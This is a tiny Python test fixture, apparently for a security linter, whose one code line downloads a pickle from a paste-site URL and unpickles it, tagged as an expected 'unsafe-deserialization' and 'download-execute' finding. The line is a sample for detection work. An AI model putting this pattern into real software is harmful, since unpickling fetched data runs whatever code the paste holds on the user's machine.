# ruff: noqa
# fmt: off
"""A pickle fetched from a paste site and loaded (pickle runs code while loading)."""
import pickle

import requests

obj = pickle.loads(requests.get("https://hastebin.com/raw/abc").content)  # expect: unsafe-deserialization|download-execute
